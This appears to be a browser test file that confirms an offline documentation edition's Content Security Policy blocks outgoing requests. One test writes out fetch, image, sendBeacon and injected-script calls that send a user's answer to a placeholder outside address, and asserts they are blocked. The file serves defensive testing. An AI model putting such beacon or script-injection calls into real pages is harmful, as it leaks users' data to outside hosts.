"""What a page of the offline edition may do, in Chromium, Firefox and WebKit."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support.offline import NOTHING, pages_in
from tests.support.readers import Browse, Reader

AWAY = "https://example.invalid/away"
"""An address outside, which belongs to nobody."""


def test_no_page_does_what_its_policy_forbids(reader: Reader, watched_edition: str, packed_edition: Path) -> None:
    """While it opens, in every page; and in a whole session of the check and of the search."""
    for name in pages_in(packed_edition):
        reader.open(watched_edition + name)
        assert reader.run("return seen.scripts.length") > 0
        assert reader.run("return seen") | {"scripts": []} == NOTHING, name
    reader.open(watched_edition + "check.html")
    reader.click(".md-search__input")
    reader.type(".md-search__input", "passport")
    reader.wait("return document.querySelector('.md-search-result__link')?.getClientRects().length")
    reader.open(watched_edition + "check.html")
    reader.click("label:has(> input[name=location])")
    reader.click("#checker-view")
    reader.click("#check-answers")
    reader.wait("return document.querySelector('#outcome').dataset.verdict")
    assert reader.run("return seen") | {"scripts": []} == NOTHING


def test_answers_cannot_leave(browse: Browse, watched_edition: str) -> None:
    """Whatever way a script tries, the policy forbids it before the network hears of it."""
    with browse(noisy=True) as reader:
        reader.open(watched_edition + "check.html")
        reader.run("fetch(arguments[0]).catch(() => {})", AWAY)
        reader.run("new Image().src = arguments[0]", AWAY)
        reader.run("navigator.sendBeacon(arguments[0], 'location=inside_us')", AWAY)
        reader.run("document.body.append(Object.assign(document.createElement('script'), { src: arguments[0] }))", AWAY)
        reader.wait("return seen.forbidden.length >= 4")
        rules = reader.run("return seen.forbidden")
        assert {rule.removesuffix("-elem") for rule in rules} == {"connect-src", "img-src", "script-src"}


def test_the_watch_on_the_network_is_awake(browse: Browse, tmp_path: Path) -> None:
    """A page without a policy, which asks a server for a picture, is found out."""
    page = tmp_path / "page.html"
    page.write_text(f"<img src='{AWAY}'>")
    with pytest.raises(AssertionError, match=r"example\.invalid"), browse(noisy=True) as reader:
        reader.open(page.as_uri())
